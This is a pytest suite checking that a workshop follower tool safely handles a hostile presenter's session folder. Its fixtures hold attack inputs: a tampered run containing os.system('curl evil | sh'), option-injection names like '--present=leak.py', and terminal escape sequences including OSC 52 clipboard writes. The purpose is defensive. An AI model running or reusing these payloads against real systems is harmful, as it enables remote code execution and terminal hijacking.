"""The workshop room against a hostile presenter: a session folder is another user's input.

A follower (`follow` in a real pseudo-terminal, or `FollowApp` under Pilot) shows what the folder
holds as text, skips what is not a run with a one-line note, stays up, quits at once, and forks
only the text that ran, into a file its own umask decides, after saying it will run the
presenter's code; a fork opens the fork whatever the run is named. The presenter (`watch
--present`) writes only into a folder of its own, never through a link, one presenter at a time.
"""

from __future__ import annotations

import argparse
import fcntl
import json
import os
import re
import select
import shlex
import signal
import stat
import struct
import subprocess
import sys
import termios
import time
from pathlib import Path

import pytest
from tui_fakes import bar_text

from playground.cli.followcmd import play_command
from playground.cli.servecmd import app_command
from playground.engine.hello import WorkerHello
from playground.engine.report import Report
from playground.engine.session import SessionWriter, setting_flags
from playground.engine.settings import Settings
from tui.workshop.follower import FollowApp, Fork, ForkConfirm

ROOT = Path(__file__).resolve().parents[2]
SOURCE = "import torch\n\n\ndef fn(x):\n    return x.sin()\n\n\ndef inputs():\n    return [(torch.ones(3),)]\n"


def publish(folder: Path, source: str = SOURCE, name: str = "demo.py", **settings) -> SessionWriter:
    writer = SessionWriter(folder)
    writer.publish(Report.from_dict({"settings": {}, "stage": "complete"}), source, Settings(**settings), name)
    return writer


class Terminal:
    """A command in a pseudo-terminal of 80x24: what it wrote, keys to it, its exit."""

    def __init__(self, argv: list[str], cwd: Path, env: dict[str, str] | None = None) -> None:
        master, slave = os.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
        full = dict(os.environ, PYTHONPATH=str(ROOT), TERM="xterm-256color", **(env or {}))
        self.proc = subprocess.Popen(
            argv, cwd=cwd, env=full, stdin=slave, stdout=slave, stderr=slave, start_new_session=True
        )
        os.close(slave)
        self.fd = master
        self.out = b""

    def read_until(self, needle: bytes, seconds: float = 30, since: int = 0) -> bool:
        """Whether `needle` is shown (after the first `since` bytes) within `seconds`."""
        end = time.monotonic() + seconds
        while time.monotonic() < end and needle not in self.out[since:]:
            ready, _, _ = select.select([self.fd], [], [], 0.1)
            if ready:
                try:
                    chunk = os.read(self.fd, 65536)
                except OSError:
                    return needle in self.out
                if not chunk:
                    break
                self.out += chunk
        return needle in self.out[since:]

    def press(self, keys: str) -> None:
        os.write(self.fd, keys.encode())

    def wait(self, seconds: float) -> int | None:
        end = time.monotonic() + seconds
        while time.monotonic() < end and self.proc.poll() is None:
            self.read_until(b"\0never\0", 0.1)
        return self.proc.poll()

    def close(self) -> None:
        if self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGKILL)
            self.proc.wait(10)
        os.close(self.fd)


def follow(session: Path, cwd: Path, *extra: str, env: dict[str, str] | None = None) -> Terminal:
    return Terminal([sys.executable, "-m", "playground", "follow", str(session), *extra], cwd, env)


# --- 1. a run's name is data, never argv --------------------------------------------------------


#: A line only the presenter's run holds: the playground a fork opens must show it.
FORKED = "# the presenter's run, as forked"


def screen_text(raw: bytes) -> str:
    """What a terminal shows, roughly: escape sequences out, so a line drawn in pieces reads whole."""
    return re.sub(
        r"\x1b(\[[0-9;?]*[ -/]*[@-~]|\][^\x07]*\x07|[()][0-9A-Za-z]|[=>])", "", raw.decode("utf-8", "replace")
    )


def fork_shown(term: Terminal) -> int:
    """`p`, then `y` once the follower asks: where the playground's output starts."""
    assert term.read_until(b"run #1 of 1"), term.out[-2000:]
    term.press("p")
    assert term.read_until(b"presenter's code as"), term.out[-2000:]
    shown = len(term.out)
    term.press("y")
    return shown


@pytest.mark.parametrize(
    ("name", "fork"),
    [("demo.py", "demo-run1.py"), ("-x.py", "x-run1.py"), ("--present=leak.py", "present_leak-run1.py")],
    ids=["plain", "dash-x", "option-with-value"],
)
def test_a_fork_opens_the_playground_on_the_forked_code(tmp_path: Path, name: str, fork: str):
    """`follow DIR`, `p`, `y`: the attendee's own playground opens on the new file and shows the
    presenter's code, whatever the run is named; never the attendee's ./snippet.py (a fork once
    passed its path after `--`, where a program's own arguments go, and the app opened
    ./snippet.py), never read as an option (`--present=leak.py` once published the attendee's
    work into a folder of the presenter's choosing)."""
    session, attendee = tmp_path / "session", tmp_path / "attendee"
    attendee.mkdir()
    mine = attendee / "snippet.py"
    mine.write_text("# the attendee's own work\n")
    mine.chmod(0o600)
    source = SOURCE.replace("def fn(x):", f"def fn(x):\n    {FORKED}")
    publish(session, source=source, name=name).close()
    env = {"COMPILE_PLAYGROUND_SPARE": "0", "COMPILE_PLAYGROUND_WARMUP": "0", "TMPDIR": str(tmp_path)}
    term = follow(session, attendee, env=env)
    try:
        shown = fork_shown(term)
        # The attendee's playground opened the fork: its footer, then its Source pane. On a
        # loaded machine the top bar was once drawn more than 10 s after the footer (a
        # clean-clone CI rehearsal, both stages' venvs and tests sharing two cores).
        assert term.read_until(b"gallery", 60, since=shown), term.out[-3000:]
        end = time.monotonic() + 60
        while FORKED not in screen_text(term.out[shown:]) and time.monotonic() < end:
            term.read_until(b"\0never\0", 0.5)
        played = screen_text(term.out[shown:])
        assert FORKED in played, played[-3000:]
        assert fork in played, played[-3000:]
        assert "the attendee's own work" not in played
        shown = len(term.out)
        term.press("q")
        assert term.read_until(b"back to following", 60, since=shown), term.out[-3000:]
        term.press("q")
        assert term.wait(20) == 0
    finally:
        term.close()
    assert sorted(p.name for p in attendee.iterdir()) == sorted([fork, "snippet.py"])
    assert (attendee / fork).read_text() == source
    assert mine.read_text() == "# the attendee's own work\n"


@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGHUP])
def test_a_follower_stopped_while_its_fork_plays_takes_the_playground_with_it(tmp_path: Path, stop: int):
    """`kill` of the follower while the attendee's playground is open: the playground (and its
    worker) end too; it once went on drawing on a terminal whose shell had its prompt back."""
    from tests.processes import with_env

    session, attendee = tmp_path / "session", tmp_path / "attendee"
    attendee.mkdir()
    publish(session, source=SOURCE.replace("def fn(x):", f"def fn(x):\n    {FORKED}")).close()
    mark = f"TMPDIR={tmp_path}"
    term = follow(session, attendee, env={"TMPDIR": str(tmp_path)})
    try:
        shown = fork_shown(term)
        end = time.monotonic() + 60
        while FORKED not in screen_text(term.out[shown:]) and time.monotonic() < end:
            term.read_until(b"\0never\0", 0.5)
        assert FORKED in screen_text(term.out[shown:])
        os.kill(term.proc.pid, stop)
        assert term.wait(20) == 128 + stop, screen_text(term.out)[-2000:]
        end = time.monotonic() + 10
        while with_env(mark) and time.monotonic() < end:
            time.sleep(0.1)
        assert not with_env(mark), with_env(mark)
    finally:
        term.close()


@pytest.mark.parametrize("what", ["snippet", "follow"])
def test_serves_command_opens_a_file_named_like_a_command_or_an_option(tmp_path: Path, what: str):
    """The command textual-serve starts per tab names the snippet or the followed folder by its
    absolute path: a snippet named `check` once ran `check` with no file, a folder named `-d`
    was read as an option."""
    if what == "snippet":
        (tmp_path / "check").write_text(SOURCE.replace("def fn(x):", f"def fn(x):\n    {FORKED}"))
        args = argparse.Namespace(follow=None, snippet="check")
        shows = FORKED
    else:
        publish(tmp_path / "-d").close()
        args = argparse.Namespace(follow="-d", snippet=None)
        shows = "run #1 of 1"
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        argv = shlex.split(app_command(args))
    finally:
        os.chdir(cwd)
    env = {"COMPILE_PLAYGROUND_SPARE": "0", "COMPILE_PLAYGROUND_WARMUP": "0", "TMPDIR": str(tmp_path)}
    term = Terminal(argv, tmp_path, env)
    try:
        end = time.monotonic() + 60
        while shows not in screen_text(term.out) and time.monotonic() < end and term.proc.poll() is None:
            term.read_until(b"\0never\0", 0.5)
        assert shows in screen_text(term.out), screen_text(term.out)[-3000:]
        term.press("q")
        assert term.wait(20) == 0
    finally:
        term.close()


def test_setting_values_from_the_folder_stay_the_values_of_their_flags(tmp_path: Path):
    from playground.cli.main import parse

    for hostile in (Settings(backend="--present=leak"), Settings(stance="--present=leak")):
        argv = play_command(tmp_path / "check", setting_flags(hostile))
        assert argv[-1] == str(tmp_path / "check")
        with pytest.raises(SystemExit):  # an invalid value: refused, never read as --present
            parse("watch", ["x.py", *setting_flags(hostile)])


# --- 2. terminal escapes from the presenter ---------------------------------------------------


def test_escapes_in_the_settings_and_the_handshake_never_reach_the_followers_terminal(tmp_path: Path):
    session = tmp_path / "session"
    writer = publish(session, backend="e\x1b]0;ST\x07", device="cpu\x1b[2J")
    writer.update(hello=WorkerHello(torch_version="2.13\x1b]2;HELLO-TITLE\x07\x1b]52;c;Y2xpcA==\x07"))
    term = follow(session, tmp_path)
    try:
        assert term.read_until(b"run #1 of 1"), term.out[-2000:]
        assert term.read_until("backend=e␛]0;ST␇".encode(), 10), term.out[-3000:]
        assert term.read_until("device cpu␛[2J".encode(), 10), term.out[-3000:]
        assert term.read_until("␛]2;HELLO-TITLE".encode(), 10), term.out[-3000:]
        term.press("q")
        assert term.wait(10) == 0
    finally:
        term.close()
        writer.close()
    for raw in (b"\x1b]0;ST", b"\x1b]2;HELLO", b"\x1b]52;", b"\x1b[2J"):
        assert raw not in term.out


# --- 4 and 8. hostile files in the folder -----------------------------------------------------


def _raw_run(number: int, **changes) -> bytes:
    source = "x = 1\n"
    import hashlib

    data = {
        "format": 1,
        "number": number,
        "at": time.time(),
        "snippet_name": "demo.py",
        "settings": {},
        "source": source,
        "report": {"settings": {}, "stage": "complete", "content_sha256": hashlib.sha256(source.encode()).hexdigest()},
    }
    data.update(changes)
    return json.dumps(data).encode()


def test_a_follower_skips_hostile_runs_with_a_note_and_quits_at_once(tmp_path: Path):
    """A FIFO, a link to /dev/zero, a huge sparse file, deep nesting, 1e999, NaN: each is one
    skipped entry; the good runs around them are shown and `q` quits at once."""
    session = tmp_path / "session"
    publish(session).close()
    runs = session / "runs"
    os.mkfifo(runs / "000002.json")
    (runs / "000003.json").write_bytes(b'{"number": 3, "report": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    (runs / "000004.json").write_bytes(_raw_run(4).replace(b'"at": ', b'"at": 1e999, "x": '))
    (runs / "000005.json").write_bytes(_raw_run(5).replace(b'"at": ', b'"at": NaN, "x": '))
    (runs / "000006.json").symlink_to("/dev/zero")
    with open(runs / "000007.json", "wb") as huge:
        huge.truncate(1 << 30)  # sparse: a gigabyte of nothing, on no disk
    (runs / "000008.json").write_bytes(_raw_run(8, at="nan"))
    (runs / "000009.json").write_bytes(_raw_run(9))
    state = json.loads((session / "presenter.json").read_text())
    (session / "presenter.json").write_text(
        json.dumps(state | {"live": True, "pid": 10**12, "run": 9, "ended_at": None})
    )
    term = follow(session, tmp_path)
    try:
        assert term.read_until(b"run #9 of 9", 15), term.out[-3000:]
        assert term.read_until(b"skipped", 5), term.out[-3000:]
        assert term.read_until(b"presenter has gone", 5), term.out[-3000:]  # pid 10**12: no process
        started = time.monotonic()
        term.press("q")
        assert term.wait(5) == 0, term.out[-3000:]
        assert time.monotonic() - started < 5
    finally:
        term.close()
    assert b"Traceback" not in term.out


@pytest.mark.parametrize(
    "presenter",
    [
        b'{"live": true, "hello": ' + b"{" * 0 + b"[" * 50_000 + b"]" * 50_000 + b"}",
        b'{"live": true, "pid": 1000000000000}',
        b'{"live": false, "ended_at": NaN}',
        b'{"live": false, "ended_at": 1e999}',
        b'{"live": false, "ended_at": "nan"}',
        b'{"live": true, "since": -1, "run": "x"}',
        b'{"live": true, "pid": 1000000000000000000000000}',
        b"[1, 2]",
        b"\xff\xfe",
    ],
    ids=["deep", "pid-1e12", "nan", "1e999", "nan-text", "negative-time", "pid-1e24", "not-an-object", "not-utf8"],
)
async def test_a_hostile_presenter_json_is_not_a_crash(tmp_path: Path, presenter: bytes):
    session = tmp_path / "session"
    publish(session).close()
    (session / "presenter.json").write_bytes(presenter)
    follower = FollowApp(session, directory=tmp_path)
    async with follower.run_test() as pilot:
        for _ in range(100):
            await pilot.pause(0.02)
            if follower.shown_run == 1:
                break
        assert follower.shown_run == 1
        await pilot.pause(1.2)  # the presenter's liveness check runs once a second
        assert follower.is_running
        bar = bar_text(follower, "following")
        assert "run #1 of 1" in bar


async def test_presenter_json_as_a_fifo_or_a_link_to_dev_zero(tmp_path: Path):
    for kind in ("fifo", "zero"):
        session = tmp_path / kind
        publish(session).close()
        (session / "presenter.json").unlink()
        if kind == "fifo":
            os.mkfifo(session / "presenter.json")
        else:
            (session / "presenter.json").symlink_to("/dev/zero")
        follower = FollowApp(session, directory=tmp_path)
        async with follower.run_test() as pilot:
            for _ in range(100):
                await pilot.pause(0.02)
                if follower.shown_run == 1:
                    break
            assert follower.shown_run == 1
            assert "presenter.json unreadable" in bar_text(follower, "following")


async def test_a_run_whose_text_is_not_what_ran_is_refused_and_not_forked(tmp_path: Path):
    session = tmp_path / "session"
    publish(session).close()
    tampered = json.loads(_raw_run(2))
    tampered["source"] = "import os\nos.system('curl evil | sh')\n"
    (session / "runs" / "000002.json").write_text(json.dumps(tampered))
    follower = FollowApp(session, directory=tmp_path)
    async with follower.run_test() as pilot:
        for _ in range(100):
            await pilot.pause(0.02)
            if follower.shown_run is not None:
                break
        await pilot.pause(0.3)
        assert [run.number for run in follower.following.runs] == [1]
        assert "run 2 skipped: its text is not the text that ran" in bar_text(follower, "following")
        await pilot.press("p", "y")
    assert isinstance(follower.return_value, Fork) and follower.return_value.run == 1
    assert follower.return_value.path.read_text() == SOURCE


# --- 8. the fork: a confirmation first, the umask's mode -----------------------------------------


async def test_p_says_it_will_run_the_presenters_code_before_it_runs_or_writes_anything(tmp_path: Path):
    session = tmp_path / "session"
    publish(session).close()
    attendee = tmp_path / "attendee"
    attendee.mkdir()
    follower = FollowApp(session, directory=attendee)
    async with follower.run_test(size=(80, 24)) as pilot:
        for _ in range(100):
            await pilot.pause(0.02)
            if follower.shown_run == 1:
                break
        await pilot.press("p")
        await pilot.pause()
        assert isinstance(follower.screen, ForkConfirm)
        words = str(follower.screen.query_one("#fork-confirm").render())
        assert "run the presenter's code as" in words and "as you" in words
        assert list(attendee.iterdir()) == []  # nothing written yet, nothing run
        await pilot.press("n")
        await pilot.pause()
        assert follower.is_running and not isinstance(follower.screen, ForkConfirm)
        assert list(attendee.iterdir()) == []
        await pilot.press("p", "c")  # the copy only: written, nothing run, still following
        await pilot.pause()
        assert follower.is_running and [p.name for p in attendee.iterdir()] == ["demo-run1.py"]
        await pilot.press("p", "y")
    assert isinstance(follower.return_value, Fork)


async def test_a_fork_copy_honours_the_umask(tmp_path: Path):
    session = tmp_path / "session"
    publish(session).close()
    follower = FollowApp(session, directory=tmp_path)
    old = os.umask(0o077)
    try:
        async with follower.run_test() as pilot:
            for _ in range(100):
                await pilot.pause(0.02)
                if follower.shown_run == 1:
                    break
            await pilot.press("p", "y")
    finally:
        os.umask(old)
    assert stat.S_IMODE(follower.return_value.path.stat().st_mode) == 0o600


# --- 8. the presenter's folder ------------------------------------------------------------------


def present(folder: Path, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    """`watch --present FOLDER`, which refuses the folder before it starts a worker."""
    snippet = tmp_path / "demo.py"
    snippet.write_text(SOURCE)
    return subprocess.run(
        [sys.executable, "-m", "playground", "watch", str(snippet), "--present", str(folder)],
        cwd=tmp_path,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_present_refuses_a_folder_every_user_may_write(tmp_path: Path):
    folder = tmp_path / "open"
    folder.mkdir()
    folder.chmod(0o777)
    done = present(folder, tmp_path)
    assert done.returncode == 2 and "may be written by every user" in done.stderr, done.stderr
    assert not (folder / "runs").exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="NOT TESTED here: giving a folder to another user needs root")
def test_present_refuses_another_users_folder(tmp_path: Path):
    folder = tmp_path / "theirs"
    folder.mkdir()
    os.chown(folder, 65534, 65534)
    folder.chmod(0o777)
    done = present(folder, tmp_path)
    assert done.returncode == 2 and "belongs to another user" in done.stderr, done.stderr
    assert list(folder.iterdir()) == []


def test_present_never_writes_through_a_runs_link(tmp_path: Path):
    folder, elsewhere = tmp_path / "s", tmp_path / "elsewhere"
    folder.mkdir()
    elsewhere.mkdir()
    (folder / "runs").symlink_to(elsewhere)
    done = present(folder, tmp_path)
    assert done.returncode == 2 and "not written through" in done.stderr, done.stderr
    assert list(elsewhere.iterdir()) == []


def test_a_second_presenter_on_one_folder_is_refused(tmp_path: Path):
    folder = tmp_path / "s"
    first = publish(folder)
    try:
        done = present(folder, tmp_path)
        assert done.returncode == 2 and "already has a presenter" in done.stderr, done.stderr
        assert sorted(p.name for p in (folder / "runs").iterdir()) == ["000001.json"]
    finally:
        first.close()
    again = SessionWriter(folder)  # the first one gone, the folder is free
    again.close()
